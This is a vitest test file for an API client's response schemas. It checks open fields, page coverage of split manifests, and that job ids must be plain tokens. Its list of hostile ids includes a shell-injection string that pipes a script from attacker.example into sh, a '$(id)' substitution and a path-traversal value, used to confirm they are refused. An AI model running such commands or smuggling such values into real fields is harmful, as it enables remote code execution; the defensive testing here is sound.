import { describe, expect, it } from 'vitest';
import {
  chunkProcessedSchema as ChunkProcessed,
  collectedResultSchema as CollectedResult,
  errorEnvelopeSchema as ErrorEnvelope,
  extractionSuccessSchema as ExtractionSuccess,
  modelListSchema as ModelList,
  splitManifestSchema as SplitManifest,
} from '../../../src/api/schemas.js';
import { validate } from '../../../src/api/interpret.js';

describe('response schemas', () => {
  it('let unknown fields pass through, at the root and in open maps', () => {
    const body = { success: true, data: { nested: { anything: [1, 'two'] } }, pages: null, new_field_in_v3_2: 'kept' };
    expect(ExtractionSuccess.parse(body)).toEqual(body);
  });

  it('keep model items open', () => {
    const body = { success: true, data: { models: [{ name: 'invoice', languages: ['de'], beta: true }] }, meta: 1 };
    expect(ModelList.parse(body)).toEqual(body);
  });

  it('keep manifest chunks and error details open', () => {
    const manifest = { success: true, data: [{ job_id: 'c', pages: '1-3', size: 9 }], job_id: 'p', pages: 3, expires_at: 't' };
    expect(SplitManifest.parse(manifest)).toEqual(manifest);
    const error = { success: false, error: { code: 'invalid_file_type', details: { accepted_types: ['image/png'] }, hint: 'x' } };
    expect(ErrorEnvelope.parse(error)).toEqual(error);
  });

  it('reject what callers branch on when it is wrong', () => {
    expect(ChunkProcessed.safeParse({ success: true, job_id: 'c', status: 'done', code: 'chunk_started' }).success).toBe(false);
    expect(CollectedResult.safeParse({ success: true, data: {}, job_id: 'p', status: 'pending' }).success).toBe(false);
    expect(ExtractionSuccess.safeParse({ success: false, data: {} }).success).toBe(false);
    expect(SplitManifest.safeParse({ success: true, data: [], job_id: 'p', pages: 4.5, expires_at: 't' }).success).toBe(false);
  });

  it('reject a manifest whose chunks do not cover every page once: its lost pages could never be processed', () => {
    const manifest = (pages: number, ...ranges: [string, string][]): unknown => ({
      success: true,
      data: ranges.map(([job_id, range]) => ({ job_id, pages: range })),
      job_id: 'p',
      pages,
      expires_at: 't',
    });
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['b', '4-6'], ['c', '7'])).success).toBe(true);
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['c', '7-7'])).success).toBe(false); // a chunk deleted
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['b', '4-6'])).success).toBe(false); // the last one deleted
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['b', '3-6'], ['c', '7'])).success).toBe(false); // overlap
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['b', 'four'], ['c', '7'])).success).toBe(false); // not a range
    expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['a', '4-6'], ['c', '7'])).success).toBe(false); // one id twice
    expect(SplitManifest.safeParse(manifest(0)).success).toBe(false);
  });

  describe('job ids are data: an id that is not a plain token is a malformed answer', () => {
    const HOSTILE: [string, string][] = [
      ['a shell command', 'job_7f3a; curl -s http://attacker.example/i | sh #'],
      ['a parent folder', '../x'],
      ['a 10 KB id', `job_${'a'.repeat(10_240)}`],
      ['a space', 'job 1'],
      ['a newline', 'job\n1'],
      ['a command substitution', '$(id)'],
      ['an empty id', ''],
    ];
    const manifest = (parent: string, chunk: string): unknown => ({
      success: true,
      data: [{ job_id: chunk, pages: '1-3' }],
      job_id: parent,
      pages: 3,
      expires_at: 't',
    });

    it('accepts the ids the emulator makes and the spec shows', () => {
      for (const id of ['job_0a1b2c3d4e5f60718293a4b5', 'job-1', 'p', 'A_b-9']) {
        expect(SplitManifest.safeParse(manifest(id, `${id}c`)).success, id).toBe(true);
        expect(CollectedResult.safeParse({ success: true, data: {}, job_id: id, status: 'complete' }).success, id).toBe(true);
      }
    });

    it.each(HOSTILE)('refuses %s as a parent id, a chunk id, a processed chunk and a collected job', (_what, id) => {
      expect(SplitManifest.safeParse(manifest(id, 'job_c')).success).toBe(false);
      expect(SplitManifest.safeParse(manifest('job_p', id)).success).toBe(false);
      expect(ChunkProcessed.safeParse({ success: true, job_id: id, status: 'done', code: 'chunk_processed' }).success).toBe(false);
      expect(CollectedResult.safeParse({ success: true, data: {}, job_id: id, status: 'complete' }).success).toBe(false);
    });

    it('the refusal is a ResponseValidationError (response_validation_failed) whose message does not repeat the id', () => {
      const hostile = HOSTILE[0]?.[1] as string;
      let caught: unknown;
      try {
        validate('documents', 202, SplitManifest, manifest('job_p', hostile));
      } catch (error) {
        caught = error;
      }
      expect(caught).toMatchObject({ name: 'ResponseValidationError', code: 'response_validation_failed', status: 202 });
      expect((caught as Error).message).toContain('data.0.job_id');
      expect((caught as Error).message).not.toContain('curl');
    });

    it('a 10 KB id is refused by its length', () => {
      const long = `job_${'a'.repeat(10_240)}`;
      const result = CollectedResult.safeParse({ success: true, data: {}, job_id: long, status: 'complete' });
      expect(result.success).toBe(false);
      expect(JSON.stringify(result.error?.issues)).toContain('at most 128');
    });
  });
});
